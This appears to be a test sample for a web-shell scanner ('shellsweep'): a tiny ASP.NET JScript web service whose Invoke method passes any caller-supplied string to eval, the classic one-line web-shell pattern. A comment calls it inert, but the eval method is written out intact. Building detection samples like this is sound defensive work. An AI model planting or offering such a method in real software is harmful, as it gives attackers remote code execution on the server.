<%@ WebService Language="JScript" Class="S" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
import System.Web.Services;
public class S extends WebService { WebMethodAttribute function Invoke(code : String) : String { return eval(code); } }
